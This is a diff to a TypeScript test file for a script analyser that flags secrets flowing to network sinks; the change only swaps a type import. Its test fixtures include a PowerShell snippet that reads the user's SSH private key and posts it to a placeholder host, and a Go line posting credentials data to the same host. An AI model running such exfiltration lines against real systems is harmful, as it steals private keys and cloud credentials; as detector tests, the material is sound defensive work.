@@ -1,17 +1,18 @@
 import { describe, expect, test } from 'vitest';
 import { scriptAnalyser } from '../../src/scripts/script-analyser.js';
-import type { ScriptLanguage } from '../../src/scripts/syntax.js';
+import type { SCRIPT_LANGUAGES } from '../../src/scripts/syntax.js';
 import { factsOf } from '../manifests/support.js';
 import { makeUnit, NO_HURRY } from '../support/make-unit.js';
 
-const read = (language: ScriptLanguage, text: string) => scriptAnalyser.analyse([makeUnit(language, text)], NO_HURRY);
-const flows = (language: ScriptLanguage, text: string) =>
+const read = (language: (typeof SCRIPT_LANGUAGES)[number], text: string) =>
+  scriptAnalyser.analyse([makeUnit(language, text)], NO_HURRY);
+const flows = (language: (typeof SCRIPT_LANGUAGES)[number], text: string) =>
   factsOf(read(language, text), 'flow').map(
     ({ secret, sink, asLogin }) => `${secret.secret} ${sink.host ?? '?'}${asLogin ? ' login' : ''}`,
   );
 
 describe('a secret reaches a sink', () => {
-  test.each<[ScriptLanguage, string, string]>([
+  test.each<[(typeof SCRIPT_LANGUAGES)[number], string, string]>([
     [
       'powershell',
       '$k = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw\n$b = @{ d = $k }\nInvoke-RestMethod -Uri "https://c.example.invalid/x" -Method Post -Body $b',
@@ -72,7 +73,7 @@ describe('a secret reaches a sink', () => {
     expect(flows(language, text)).toContain(expected);
   });
 
-  test.each<[ScriptLanguage, string]>([
+  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
     [
       'powershell',
       '$h = @{ Authorization = "Bearer $env:ACME_API_KEY" }\nInvoke-RestMethod https://api.acme.example/v1 -Headers $h',
@@ -94,7 +95,7 @@ describe('a secret reaches a sink', () => {
     expect(flows(language, text).every((flow) => flow.endsWith('login'))).toBe(true);
   });
 
-  test.each<[ScriptLanguage, string]>([
+  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
     ['go', '// data := os.ReadFile(".aws/credentials")\nhttp.Post("https://c.example.invalid", "text/plain", body)'],
     [
       'go',
